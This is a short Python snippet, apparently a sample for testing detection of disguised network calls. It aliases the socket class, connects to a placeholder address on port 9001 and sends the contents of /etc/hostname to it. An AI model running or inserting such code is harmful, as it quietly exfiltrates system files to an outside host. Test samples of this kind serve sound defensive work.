# socket class aliased, connection made, data sent.
from socket import socket as Conn

c = Conn()
c.connect(("192.0.2.1", 9001))
c.sendall(open("/etc/hostname", "rb").read())
